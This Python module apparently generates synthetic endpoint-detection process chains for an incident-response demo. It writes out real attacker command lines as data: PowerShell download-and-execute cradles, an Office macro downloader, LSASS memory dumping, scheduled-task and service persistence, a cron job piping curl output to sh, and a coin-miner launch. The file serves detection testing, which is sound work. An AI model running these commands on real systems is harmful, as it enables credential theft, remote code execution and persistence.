"""Process chains (parent -> child -> grandchild) for endpoint detections."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from autoir.demo.evidence import Step
from autoir.demo.primitives import FileSpec, hex_string, public_ip, random_file, system_file

if TYPE_CHECKING:
    from random import Random

_SYS32 = "C:\\Windows\\System32"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"

EXPLORER = system_file("explorer.exe", "C:\\Windows")
SERVICES = system_file("services.exe", _SYS32)
SVCHOST = system_file("svchost.exe", _SYS32)
CMD = system_file("cmd.exe", _SYS32)
POWERSHELL = system_file("powershell.exe", f"{_SYS32}\\WindowsPowerShell\\v1.0")
WSCRIPT = system_file("wscript.exe", _SYS32)
RUNDLL32 = system_file("rundll32.exe", _SYS32)
SCHTASKS = system_file("schtasks.exe", _SYS32)
SC = system_file("sc.exe", _SYS32)
REG = system_file("reg.exe", _SYS32)
VSSADMIN = system_file("vssadmin.exe", _SYS32)
WMIC = system_file("WMIC.exe", f"{_SYS32}\\wbem")
WINWORD = system_file("WINWORD.EXE", _OFFICE)
EXCEL = system_file("EXCEL.EXE", _OFFICE)
OUTLOOK = system_file("OUTLOOK.EXE", _OFFICE)
EDGE = system_file("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application")
CHROME = system_file("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", "Google LLC")
CCMEXEC = system_file("CcmExec.exe", "C:\\Windows\\CCM")
PSEXESVC = system_file("PSEXESVC.exe", "C:\\Windows")
PROCDUMP = system_file("procdump64.exe", "C:\\Tools\\Sysinternals")

SYSTEMD = system_file("systemd", "/usr/lib/systemd", "")
SSHD = system_file("sshd", "/usr/sbin", "")
NGINX = system_file("nginx", "/usr/sbin", "")
PHP_FPM = system_file("php-fpm8.1", "/usr/sbin", "")
SH = system_file("dash", "/usr/bin", "")
BASH = system_file("bash", "/usr/bin", "")
CURL = system_file("curl", "/usr/bin", "")
CRONTAB = system_file("crontab", "/usr/bin", "")
CRON = system_file("cron", "/usr/sbin", "")


def encoded_command(script: str) -> str:
    """PowerShell ``-EncodedCommand`` argument (UTF-16LE, base64) for ``script``."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def user_temp(account: str) -> str:
    """The user's temporary folder."""
    return f"C:\\Users\\{account}\\AppData\\Local\\Temp"


def powershell_chain(rng: Random, account: str) -> list[Step]:
    """A suspicious PowerShell launch; one of a few typical shapes (some benign)."""
    host = public_ip(rng)
    variant = rng.randrange(3)
    if variant == 0:
        script = (
            f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/{hex_string(rng, 6)}')"
        )
        return [
            Step(EXPLORER, "C:\\Windows\\Explorer.EXE"),
            Step(
                POWERSHELL,
                "powershell.exe -NoProfile -ExecutionPolicy Bypass "
                f"-WindowStyle Hidden -EncodedCommand {encoded_command(script)}",
            ),
        ]
    if variant == 1:
        return [
            Step(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
            Step(CMD, f'cmd.exe /c "C:\\Users\\{account}\\AppData\\Roaming\\sync\\run.cmd"'),
            Step(
                POWERSHELL,
                'powershell.exe -nop -w hidden -c "$w=New-Object Net.WebClient;'
                f"iex $w.DownloadString('https://{host}/s')\"",
            ),
        ]
    return [
        Step(CCMEXEC, "C:\\Windows\\CCM\\CcmExec.exe"),
        Step(
            POWERSHELL,
            "powershell.exe -ExecutionPolicy Bypass -NoProfile -File "
            f"C:\\Windows\\CCM\\SystemTemp\\{hex_string(rng, 8)}.ps1",
        ),
    ]


def office_macro_chain(document: str, payload_url: str, dropped: FileSpec) -> list[Step]:
    """Word opens a macro document that starts cmd, which runs a PowerShell downloader."""
    script = (
        f"(New-Object Net.WebClient).DownloadFile('{payload_url}','{dropped.path}');"
        f"Start-Process '{dropped.path}'"
    )
    encoded = encoded_command(script)
    return [
        Step(WINWORD, f'"WINWORD.EXE" /n "{document}" /o ""'),
        Step(CMD, f"cmd.exe /c start /min powershell -w hidden -ep bypass -enc {encoded}"),
        Step(POWERSHELL, f"powershell -w hidden -ep bypass -enc {encoded}"),
        Step(dropped, f'"{dropped.path}" /silent'),
    ]


def hidden_file_chain(rng: Random, account: str) -> list[Step]:
    """A hidden script or executable launched from a user-writable folder."""
    if rng.random() < 0.5:
        script = random_file(
            rng,
            f"{hex_string(rng, 6)}.js",
            f"C:\\Users\\{account}\\AppData\\Roaming\\{hex_string(rng, 8)}",
            size=(2_000, 90_000),
        )
        return [
            Step(EXPLORER, "C:\\Windows\\Explorer.EXE"),
            Step(WSCRIPT, f'"C:\\Windows\\System32\\WScript.exe" "{script.path}"'),
        ]
    binary = random_file(rng, "update.exe", f"{user_temp(account)}\\.{hex_string(rng, 6)}")
    return [Step(EXPLORER, "C:\\Windows\\Explorer.EXE"), Step(binary, f'"{binary.path}" -q')]


def lsass_chain(rng: Random) -> list[Step]:
    """Reading LSASS memory with comsvcs.dll MiniDump or procdump."""
    pid = rng.randint(600, 1_200) // 4 * 4
    if rng.random() < 0.6:
        return [
            Step(CMD, "cmd.exe /Q /c"),
            Step(
                RUNDLL32,
                f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} "
                f"C:\\Windows\\Temp\\{hex_string(rng, 6)}.bin full",
            ),
        ]
    return [
        Step(POWERSHELL, "powershell.exe"),
        Step(PROCDUMP, "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"),
    ]


def scheduled_task_chain(rng: Random, account: str) -> list[Step]:
    """Persistence through a scheduled task that runs a hidden PowerShell script."""
    name = rng.choice(("OneDrive Update", "GoogleUpdateTaskMachineUA", "AdobeFlashSync"))
    return [
        Step(EXPLORER, "C:\\Windows\\Explorer.EXE"),
        Step(CMD, "cmd.exe"),
        Step(
            SCHTASKS,
            f'schtasks.exe /create /sc minute /mo 30 /tn "{name} {hex_string(rng, 4)}" '
            f'/tr "powershell -w hidden -f C:\\Users\\{account}\\AppData\\Roaming\\u.ps1" /f',
        ),
    ]


def injection_chain(rng: Random, account: str) -> list[Step]:
    """An unsigned binary started from Outlook's temporary folder that injects into others."""
    binary = random_file(
        rng,
        f"{rng.choice(('inv', 'doc', 'scan'))}_{rng.randint(100, 999)}.exe",
        f"{user_temp(account)}\\Outlook Temp",
    )
    return [Step(OUTLOOK, '"OUTLOOK.EXE"'), Step(binary, f'"{binary.path}"')]


def service_chain(rng: Random) -> list[Step]:
    """A service created with an unusual binary path."""
    name = f"svc{hex_string(rng, 5)}"
    return [
        Step(CMD, "cmd.exe /c"),
        Step(SC, f"sc.exe create {name} binPath= C:\\ProgramData\\{name}.exe start= auto"),
    ]


def windows_chain(rng: Random, key: str, account: str) -> list[Step]:
    """The process chain for a Windows endpoint detection ``key``."""
    if key == "mde.hidden-file":
        return hidden_file_chain(rng, account)
    if key == "mde.lsass":
        return lsass_chain(rng)
    if key == "mde.scheduled-task":
        return scheduled_task_chain(rng, account)
    if key == "mde.injection":
        return injection_chain(rng, account)
    if key == "mde.service":
        return service_chain(rng)
    return powershell_chain(rng, account)


def linux_chain(rng: Random, key: str, miner: FileSpec | None = None) -> list[Step]:
    """The process chain for a Linux detection ``key`` (miner, discovery or cron)."""
    host = public_ip(rng)
    if key == "mde.miner" and miner is not None:
        return [
            Step(SYSTEMD, "/sbin/init"),
            Step(
                miner,
                f"{miner.path} -o stratum+tcp://pool.coinhive.invalid:3333 "
                f"-u 4{hex_string(rng, 20)} -p x --cpu-max-threads-hint=75",
            ),
        ]
    if key == "mde.linux-cron":
        return [
            Step(SSHD, "sshd: deploy@pts/0"),
            Step(BASH, "-bash"),
            Step(
                CRONTAB,
                "crontab -l | { cat; echo '*/10 * * * * curl -fsSL "
                f"http://{host}/s.sh | sh'; }} | crontab -",
            ),
        ]
    return [
        Step(SSHD, "sshd: deploy@pts/0"),
        Step(BASH, "-bash"),
        Step(BASH, "bash -c whoami; id; uname -a; cat /etc/os-release; ip a; cat /etc/passwd"),
    ]
